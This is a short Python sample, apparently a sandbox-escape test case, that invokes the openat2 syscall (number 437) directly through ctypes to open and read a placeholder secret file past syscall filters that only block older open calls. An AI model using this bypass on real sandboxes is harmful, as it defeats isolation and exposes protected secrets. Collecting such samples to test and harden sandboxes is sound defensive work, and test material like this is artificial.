# aim: a file, by openat2, which filters forget
# kind: escape
# source: own
import ctypes, struct
libc = ctypes.CDLL(None)
how = ctypes.create_string_buffer(struct.pack('QQQ', 0, 0, 0))
number = libc.syscall(437, -100, b'@SECRET_FILE@', how, 24)
buffer = ctypes.create_string_buffer(100)
libc.read(number, buffer, 100)
return buffer.value.decode()
